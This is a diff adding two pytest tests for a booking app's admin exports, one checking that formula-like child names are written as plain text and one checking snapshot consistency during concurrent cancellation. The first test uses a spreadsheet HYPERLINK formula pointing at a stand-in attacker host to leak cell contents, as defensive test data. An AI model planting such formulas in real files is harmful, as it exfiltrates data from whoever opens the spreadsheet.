@@ -11,6 +11,7 @@ import openpyxl
 import pytest
 from sqlalchemy import select
 
+from nibog.accounts.models import User
 from nibog.booking.models import BookingItem
 from nibog.core import tx
 from nibog.core.timeutil import age_in_months, today_ist, utcnow
@@ -144,3 +145,54 @@ def test_download_before_the_job_finishes_is_409(client, db, admin_headers, app,
     SimpleWorker([Queue("reports", connection=conn)], connection=conn).work(burst=True)
     status = client.get(f"/api/admin/reports/{report_id}", headers=admin_headers).get_json()
     assert status["status"] == "done"
+
+
+def test_what_parents_typed_is_text_in_the_spreadsheet(client, db, admin_headers):
+    """A child named like a formula is exported as text (no formula runs in the admin's
+    spreadsheet); a name with a control character does not break the XLSX export; a phone
+    number keeps its plus sign."""
+    make_booking(child_names=('=HYPERLINK("http://evil.example/?x="&A1,"click")',
+                              "Ravi\u000bKumar"), games=("Crawl",))
+    resp = _export(client, admin_headers, "participants", "xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(resp.data))
+    header, *rows = [list(r) for r in book.active.iter_rows(values_only=True)]
+    names = [r[header.index("child_name")] for r in rows]
+    assert names == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "RaviKumar"]
+    assert not any(c.data_type == "f" for row in book.active.iter_rows() for c in row)
+
+    rows = _csv_rows(_export(client, admin_headers, "participants", "csv"))
+    assert rows[0]["child_name"].startswith("'=HYPERLINK")
+    parent = db.session.get(User, make_booking(games=("Run",))[1]["user"].id)
+    parent.phone = "+919812345678"
+    tx.commit()
+    rows = _csv_rows(_export(client, admin_headers, "bookings"))
+    assert "+919812345678" in [r["phone"] for r in rows]
+
+
+def test_an_export_is_one_snapshot_while_bookings_change(client, db, admin_headers, monkeypatch):
+    """A booking cancelled while the file is written (between two batches) must not shift
+    the pages: every row of the moment the export started is written, once."""
+    import sqlalchemy as sa
+
+    from nibog.admin import reports
+    from nibog.extensions import db as ext_db
+
+    first, second, unpaid, other, info = _setup(db)
+    monkeypatch.setattr(reports, "BATCH", 1)
+    real_set = reports._set
+    changed = []
+
+    def progress(report_id, **values):
+        real_set(report_id, **values)
+        if "progress" in values and values["progress"] and not changed:
+            with ext_db.engine.begin() as conn:  # another session, committed at once
+                conn.execute(sa.text("UPDATE bookings SET status = 'cancelled' WHERE id = :i"),
+                             {"i": first.id})
+            changed.append(True)
+
+    monkeypatch.setattr(reports, "_set", progress)
+    rows = _csv_rows(_export(client, admin_headers, "bookings",
+                             filters={"status": "confirmed"}))
+    assert changed
+    assert [r["booking_number"] for r in rows] == [
+        first.booking_number, second.booking_number, other.booking_number]
